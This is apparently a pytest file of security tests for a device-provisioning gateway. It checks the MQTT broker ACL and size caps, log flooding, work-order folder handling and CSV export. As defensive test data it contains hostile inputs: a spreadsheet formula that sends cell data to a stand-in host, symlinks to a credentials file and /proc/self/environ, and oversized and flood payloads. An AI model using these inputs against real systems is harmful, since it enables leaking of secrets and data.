"""Attacks on the gateway itself: the broker's limits and ACL, the log, the work-order folder, the CSV export.

(The status server and the webhook client have attack tests of their own.)
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import random
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from provisioning_lab.simulator import SerialDevice, SerialJig, fleet_specs, queue_specs
from provisioning_lab.simulator._sdk import EmulatorSdk
from provisioning_lab.simulator._serial import run_port_queue
from tests.attack._line import (
    GUARD_S,
    MES_USER,
    PROFILES_DIR,
    AttackLine,
    Identity,
    MqttDevice,
    memory_kb,
    profile_text,
)
from tests.attack.conftest import ATTACKER
from tests.integration.provisioning_line import FAST, Line
from tests.integration.test_hostile_flood import serial_flood

OVERSIZED_BYTES = 16 * 1024 * 1024  # proves the cap as well as the 128 MB did, at an eighth of the cost
# The agent's peak RSS may grow this much while it is sent one oversized publish (a copy would be 16 MB).
OVERSIZED_RSS_GROWTH_KB = 8 * 1024


# -- the broker -------------------------------------------------------------------------------------------


def test_devices_and_the_mes_can_read_the_gateway_status(line: AttackLine) -> None:
    """docs/protocol.md: a device may watch the gateway's retained status; so may the MES. The ACL must say so
    for logged-in users (a ``topic`` line before any ``user`` line applies to anonymous clients only)."""
    line.start_agent(line.profiles(x1=profile_text()))
    status_topic = "prov/v1/gw/gw1/status"
    readers = [line.device("FT1-000101"), MqttDevice(line.broker, MES_USER, line.passwords[MES_USER])]
    line.clients.append(readers[1])
    for reader in readers:
        reader.subscribe("prov/v1/gw/+/status")
    for reader in readers:
        got = reader.wait_for(lambda reader=reader: bool(reader.answers(status_topic)), 5.0)
        assert got, f"{reader.tid} cannot read the gateway status (ACL)"
        assert reader.answers(status_topic)[0]["state"] == "online"
    # Still confined: the device reads no other device's topics, the MES no device topic at all.
    snoop = line.device("FT1-000102")
    snoop.subscribe("prov/v1/dev/+/down", "prov/v1/dev/FT1-000101/down")
    honest = line.provision(Identity("FT1-000101"), readers[0])
    assert snoop.settle(0.5) == 0, f"a device read another's topics: {snoop.messages}"
    line.assert_unharmed(attackers=[], served=[honest])


def test_an_oversized_publish_on_a_devices_own_up_topic_never_reaches_the_agent(line: AttackLine) -> None:
    """The shipped broker refuses a publish far beyond the protocol's 4096 bytes; the agent never holds it."""
    line.start_agent(line.profiles(x1=profile_text()))
    attacker = line.attacker(ATTACKER)
    before = line.memory_kb()["VmHWM"]
    attacker.device.publish_nowait(b"{" + b" " * OVERSIZED_BYTES + b"}")  # no PUBACK: the broker hangs up
    attacker.device.settle(1.0, 5.0)
    attacker.device.close()  # paho would resend it after every reconnect
    grown = line.memory_kb()["VmHWM"] - before
    assert attacker.device.answers() == [], "the agent received and answered the oversized publish"
    assert grown < OVERSIZED_RSS_GROWTH_KB, f"the agent's peak RSS grew {grown} kB for one oversized publish"
    line.assert_unharmed(attackers=[attacker], served=[line.provision(Identity("FT1-000101"))])


@pytest.mark.parametrize("protocol", ["5", "3.1.1"])
def test_the_agent_caps_inbound_messages_itself_on_a_broker_without_limits(
    tmp_path: Path, mqtt_broker: Any, emulator: Any, protocol: str
) -> None:
    """A broker with no ``message_size_limit`` (not the shipped one): on MQTT 5 the agent's Maximum Packet
    Size keeps the broker from sending it an oversized message; on 3.1.1 the agent drops it unread."""
    line = Line(tmp_path, mqtt_broker, emulator)
    try:
        agent = line.start_agent(mqtt={"protocol": protocol})
        watcher = line.watch("prov/v1/dev/+/down")
        hwm = memory_kb(agent.pid)["VmHWM"]
        size = OVERSIZED_BYTES if protocol == "5" else 64 * 1024  # 3.1.1: the agent reads the packet before it drops it
        watcher.publish("prov/v1/dev/EVE/up", b"{" + b" " * size + b"}")
        watcher.publish("prov/v1/dev/EVE/up", b'{"v": 1, "type": "ping", "id": "after"}')  # answered: the line works
        assert watcher.wait_for(lambda: bool(watcher.on("prov/v1/dev/EVE/down")), GUARD_S)
        # Answers go out in the order the messages came; a late one to the oversized message would show here.
        watcher.wait_for(lambda: len(watcher.on("prov/v1/dev/EVE/down")) > 1, 0.5)
        answers = watcher.on("prov/v1/dev/EVE/down")
        assert [a.get("re") for a in answers] == ["after"], f"the oversized message was decoded and answered: {answers}"
        if protocol == "5":
            grown = memory_kb(agent.pid)["VmHWM"] - hwm
            assert grown < OVERSIZED_RSS_GROWTH_KB, f"the agent's peak RSS grew {grown} kB"
        else:
            assert "dropped a message of 65538 bytes" in agent.log_text()
        assert agent.running()
    finally:
        line.close()


# -- the log ----------------------------------------------------------------------------------------------

HOSTILE_MESSAGES = 600
WARNINGS_BOUND = 40  # the agent's own warnings a minute of such a flood may cost (rate-limited, with summaries)


def test_a_hostile_serial_port_cannot_flood_the_log(line: AttackLine, tmp_path: Path) -> None:
    """A device on a jig sends refused messages as fast as the link carries them: each is answered, but the
    log gets a bounded number of lines and says how many it left out; the other port and MQTT keep working."""
    g2 = (PROFILES_DIR / "gate-controller-g2.toml").read_text(encoding="utf-8")
    payloads = [b'{"v": 1, "type": "register", "id": "h-%d"}' % n for n in range(HOSTILE_MESSAGES)]
    with SerialJig(tmp_path / "hostile", 1, baudrate=0) as hostile, SerialJig(tmp_path / "clean", 1) as clean:
        serial = {"ports": [str(hostile.directory / "port-*"), str(clean.directory / "port-*")], "usb": False,
                  "scan_interval_s": 0.2}  # fmt: skip
        agent = line.start_agent(line.profiles(x1=profile_text(), g2=g2), serial=serial)
        honest_serial: list[list[SerialDevice]] = []

        async def clean_port() -> list[SerialDevice]:
            lane: list[SerialDevice] = []
            async with aiohttp.ClientSession() as http:
                deadline = asyncio.get_running_loop().time() + 60.0
                [queue] = queue_specs(clean.ports, fleet_specs(1, model="gate-controller-g2", id_prefix="CLEAN"))
                await run_port_queue(queue, EmulatorSdk(line.emulator.url, http), FAST, deadline, lane)
            return lane

        thread = threading.Thread(target=lambda: honest_serial.append(asyncio.run(clean_port())), name="clean-port")
        thread.start()
        answers = serial_flood(hostile.port(1), payloads, random.Random(3), 60.0)
        thread.join()
    assert len(answers) == HOSTILE_MESSAGES, "every hostile message is still answered"
    assert {a.get("code") for a in answers} == {"invalid_field"}
    warnings = [entry for entry in agent.log_text().splitlines() if " WARNING " in entry]
    assert len(warnings) <= WARNINGS_BOUND, f"{len(warnings)} WARNING lines for {HOSTILE_MESSAGES} hostile messages"
    assert any("suppress" in entry for entry in warnings), "the log does not say that lines were left out"
    assert [device.outcome().status for device in honest_serial[0]] == ["licensed"]
    line.assert_unharmed(attackers=[], served=[line.provision(Identity("FT1-000101"))])


# -- the work-order folder --------------------------------------------------------------------------------


def test_work_orders_that_are_links_or_foreign_files_are_not_read(line: AttackLine, tmp_path: Path) -> None:
    """A writer of the MES folder links secrets into it (the AccessKey's file, the agent's own environment)
    and orders kept elsewhere; drops a file owned by another user and one anyone may write. None is read,
    none is loaded, and no byte of their content reaches the log or /status."""
    orders, elsewhere = tmp_path / "orders", tmp_path / "elsewhere"
    orders.mkdir()
    elsewhere.mkdir()
    secret_file = tmp_path / "credentials.toml"
    secret_file.write_text(f'access_key_secret = "{line.emulator.access_key_secret}"\n')
    good = "order,model,device_id\nWO-{n},face-terminal-x1,FT1-00010{n}\n"
    (elsewhere / "wo-1.csv").write_text(good.format(n=1))
    (orders / "creds.csv").symlink_to(secret_file)
    (orders / "environ.csv").symlink_to("/proc/self/environ")
    (orders / "linked.csv").symlink_to(elsewhere / "wo-1.csv")
    (orders / "foreign.csv").write_text(good.format(n=2))
    os.chown(orders / "foreign.csv", 65534, 65534)
    (orders / "open.csv").write_text(good.format(n=3))
    (orders / "open.csv").chmod(0o666)
    (orders / "broken.csv").write_text(f"order,model,{line.emulator.access_key_secret}\n")  # no device_id column
    (orders / "wo-4.csv").write_text(good.format(n=4))  # the one good order
    agent = line.start_agent(
        line.profiles(x1=profile_text(admission="work_orders = true")),
        admission={"work_orders_dir": str(orders), "poll_interval_s": 0.2},
    )
    status = line.endpoint("/status").json()["admission"]
    assert [o["order"] for o in status["work_orders"]] == ["WO-4"], "an order linked or foreign was loaded"
    errors, agent_log = "\n".join(status["work_order_errors"]), agent.log_text()
    for name in ("creds.csv", "environ.csv", "linked.csv", "foreign.csv", "open.csv", "broken.csv"):
        assert name in errors, f"{name} is not reported as refused"
    assert "PATH=" not in errors + agent_log
    assert "broken.csv:1: " in errors, errors
    assert "device_id" in errors
    refused = line.provision(Identity("FT1-000101"))  # listed only by the linked order
    assert refused.done is None
    line.assert_unharmed(attackers=[], served=[line.provision(Identity("FT1-000104"))])


# -- the CSV export ---------------------------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas_a_device_planted(line: AttackLine) -> None:
    """A device reports a hardware_id that a spreadsheet would run as a formula; the export must not."""
    config = line.profiles(x1=profile_text())
    line.start_agent(config)
    planted = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    device = Identity("FT1-000101", hardware=planted)
    honest = line.provision(device)
    assert honest.done is not None
    export = subprocess.run(
        [sys.executable, "-m", "agent", "export", "--config", str(line.tmp_path / "agent.toml")],
        capture_output=True, text=True, check=True, timeout=GUARD_S, env=line.env,
    )  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(export.stdout)))
    assert row["hardware_id"] == "'" + planted, f"the export wrote a formula: {row['hardware_id']!r}"
    assert row["device_id"] == "FT1-000101"
    line.assert_unharmed(attackers=[], served=[honest])
